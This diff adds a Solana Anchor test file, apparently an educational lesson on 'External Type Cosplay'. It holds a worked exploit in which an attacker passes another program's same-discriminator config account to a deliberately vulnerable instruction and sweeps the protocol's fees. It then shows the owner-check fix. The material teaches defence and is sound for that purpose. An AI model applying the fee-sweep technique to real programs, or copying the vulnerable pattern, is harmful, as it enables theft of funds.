@@ -0,0 +1,131 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey, SystemProgram } from "@solana/web3.js";
+import { expect } from "chai";
+import { expectError } from "../../../tests/utils";
+
+describe("70: External Type Cosplay", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.ExternalTypeCosplay as Program<any>;
+    const launchpad = anchor.workspace.MockLaunchpad as Program<any>;
+
+    let alice: Keypair;
+    let mallory: Keypair;
+
+    const FEES = 2 * LAMPORTS_PER_SOL;
+
+    const configPda = PublicKey.findProgramAddressSync([Buffer.from("config")], program.programId)[0];
+    const feeVaultPda = PublicKey.findProgramAddressSync([Buffer.from("fees")], program.programId)[0];
+
+    function launchpadConfigPda(creator: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync([Buffer.from("config"), creator.toBuffer()], launchpad.programId)[0];
+    }
+
+    function sweep(method: "vulnerableSweepFees" | "secureSweepFees", config: PublicKey, admin: Keypair, treasury: PublicKey) {
+        return program.methods[method]()
+            .accounts({ config, feeVault: feeVaultPda, admin: admin.publicKey, treasury })
+            .signers([admin])
+            .rpc();
+    }
+
+    async function payFees() {
+        await program.methods
+            .payFee(new anchor.BN(FEES))
+            .accounts({ feeVault: feeVaultPda, payer: alice.publicKey, systemProgram: SystemProgram.programId })
+            .signers([alice])
+            .rpc();
+    }
+
+    before(async () => {
+        alice = Keypair.generate();
+        mallory = Keypair.generate();
+
+        for (const kp of [alice, mallory]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 10 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+    });
+
+    describe("Setup", () => {
+        it("Alice configures the protocol with Alice's treasury; fees accrue", async () => {
+            await program.methods
+                .initialize(alice.publicKey, 30)
+                .accounts({
+                    config: configPda,
+                    feeVault: feeVaultPda,
+                    admin: alice.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([alice])
+                .rpc();
+            await payFees();
+        });
+
+        it("Mallory creates a launchpad Config naming Mallory admin and treasury", async () => {
+            await launchpad.methods
+                .createConfig(mallory.publicKey, 0)
+                .accounts({
+                    config: launchpadConfigPda(mallory.publicKey),
+                    creator: mallory.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([mallory])
+                .rpc();
+
+            const ours = (await provider.connection.getAccountInfo(configPda))!.data.subarray(0, 8);
+            const theirs = (await provider.connection.getAccountInfo(launchpadConfigPda(mallory.publicKey)))!.data.subarray(0, 8);
+            expect(Buffer.compare(ours, theirs)).to.equal(0);
+        });
+    });
+
+    describe("Exploit: the launchpad's Config passes the discriminator check", () => {
+        it("Mallory sweeps the protocol's fees with the launchpad Config", async () => {
+            const before = await provider.connection.getBalance(mallory.publicKey);
+            await sweep("vulnerableSweepFees", launchpadConfigPda(mallory.publicKey), mallory, mallory.publicKey);
+            const after = await provider.connection.getBalance(mallory.publicKey);
+
+            console.log(`  Mallory swept ${(after - before) / LAMPORTS_PER_SOL} SOL of protocol fees`);
+            expect(after - before).to.equal(FEES);
+        });
+    });
+
+    describe("Secure: the config must be owned by this program", () => {
+        it("Rejects the launchpad Config", async () => {
+            await payFees();
+            await expectError(
+                sweep("secureSweepFees", launchpadConfigPda(mallory.publicKey), mallory, mallory.publicKey),
+                "ForeignConfig"
+            );
+        });
+
+        it("Rejects Mallory with the real config", async () => {
+            await expectError(sweep("secureSweepFees", configPda, mallory, mallory.publicKey), "Unauthorized");
+        });
+
+        it("Alice sweeps the fees to Alice's treasury", async () => {
+            const before = await provider.connection.getBalance(alice.publicKey);
+            await sweep("secureSweepFees", configPda, alice, alice.publicKey);
+            const after = await provider.connection.getBalance(alice.publicKey);
+            expect(after - before).to.equal(FEES);
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== External Type Cosplay ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  let config = Config::try_deserialize(&mut &data[..])?;  // discriminator only");
+            console.log("  Risk: any program's `Config` has the same 8 bytes; its admin sweeps your fees\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  require_keys_eq!(*config.owner, crate::ID);  // or Account<'info, Config>");
+            console.log("  Protection: only accounts this program wrote are decoded\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  A discriminator says what a struct is called, not which program wrote it.");
+        });
+    });
+});